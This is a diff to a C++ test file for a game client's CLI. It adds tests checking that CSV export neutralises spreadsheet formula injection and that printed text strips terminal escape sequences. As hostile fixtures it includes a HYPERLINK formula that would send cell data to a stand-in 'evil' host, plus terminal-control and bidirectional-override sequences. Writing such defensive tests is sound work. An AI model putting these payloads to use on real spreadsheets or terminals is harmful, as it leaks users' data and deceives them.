@@ -3,7 +3,6 @@
 // addresses, result forms built from a game's description, and the cli catalogs themselves.
 #include "client/cli/app.hpp"
 #include "client/cli/args.hpp"
-#include "projections/csv.hpp"
 #include "client/cli/exit_codes.hpp"
 #include "client/cli/game_spec.hpp"
 #include "client/cli/numbers.hpp"
@@ -11,8 +10,10 @@
 #include "client/cli/say.hpp"
 #include "client/cli/session.hpp"
 #include "client/cli/standings_view.hpp"
+#include "client/cli/text.hpp"
 #include "client/cli/text_table.hpp"
 #include "i18n/catalog.hpp"
+#include "projections/csv.hpp"
 
 #include <gtest/gtest.h>
 #include <unicode/messagepattern.h>
@@ -72,6 +73,36 @@ TEST(Csv, WritesWhatItReads) {
   std::string line = csv_line(fields);
   EXPECT_EQ(line, "1,\"Novák, Jan\",\"say \"\"hi\"\"\",\"two\nlines\",\" pad\",\n");
   EXPECT_EQ(fields_of(parse_csv(line)), (std::vector<std::vector<std::string>>{fields}));
+}
+
+TEST(Csv, APersonsTextNeverBecomesAFormula) {
+  // OWASP "CSV Injection": a leading =, +, -, @, tab or CR makes a spreadsheet evaluate a cell.
+  EXPECT_EQ(csv_text("=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")"),
+            "'=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")");
+  for (const char* cell : {"+1", "-2+3", "@SUM(A1)", "\tx", "\rx"}) {
+    EXPECT_EQ(csv_text(cell), std::string("'") + cell) << cell;
+  }
+  EXPECT_EQ(csv_text("Jana Nováková"), "Jana Nováková");
+  EXPECT_EQ(csv_text(""), "");
+  // Quoted as any other cell afterwards: the formula's comma stays inside its cell.
+  EXPECT_EQ(csv_line({csv_text("=1,2")}), "\"'=1,2\"\n");
+}
+
+TEST(Printable, NothingReceivedCanDriveTheTerminal) {
+  const std::string kBad = "\xEF\xBF\xBD";
+  // Erase the line above, retitle the window, ring the bell, go back over the text.
+  EXPECT_EQ(printable("ok\x1b[1A\x1b[2Kgone"), "ok" + kBad + "[1A" + kBad + "[2Kgone");
+  EXPECT_EQ(printable("\x1b]0;pwned\x07"), kBad + "]0;pwned" + kBad);
+  EXPECT_EQ(printable("a\rb\bc\nd\te"), "a" + kBad + "b" + kBad + "c" + kBad + "d" + kBad + "e");
+  EXPECT_EQ(printable(std::string("nul\0end", 7)), "nul" + kBad + "end");
+  // C1 controls (U+009B is a one-character CSI) and DEL, the bidirectional overrides.
+  EXPECT_EQ(printable("x\xC2\x9By\x7F"), "x" + kBad + "y" + kBad);
+  EXPECT_EQ(printable("\xE2\x80\xAE"
+                      "evil"),
+            kBad + "evil");
+  // Broken UTF-8 is shown byte by byte as "�"; real text is untouched.
+  EXPECT_EQ(printable("\xC3"), kBad);
+  EXPECT_EQ(printable("Jana Nováková — Ярослав"), "Jana Nováková — Ярослав");
 }
 
 TEST(Numbers, TwoDecimalsFromTheExactFraction) {
@@ -171,6 +202,13 @@ TEST(Standings, AGoTRoundsWithTheDroppedResultInParenthesesAndTheConqueror) {
             "rank,player,name,games,r1,r2,dropped_rounds,total,wins,next_league,conqueror\n"
             "1,p6,Lord 6,2,1,16,1,16,1,,false\n"
             "2,p1,Čeněk,2,15,1,2,15,1,,true\n");
+  // A name (or id) that a spreadsheet would run as a formula is written as text.
+  json::object hostile{
+      {"rows", json::array{row(1, "-p6", "=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")", 1, true,
+                               16, false, 16)}}};
+  EXPECT_EQ(standings_csv(hostile),
+            "rank,player,name,games,r1,r2,dropped_rounds,total,wins,next_league\n"
+            "1,'-p6,\"'=HYPERLINK(\"\"http://evil/?x=\"\"&A1,\"\"click\"\")\",2,1,16,1,16,1,\n");
 
   // The same standings in Czech: the headings and notes; the CSV does not change.
   std::ostringstream czech;
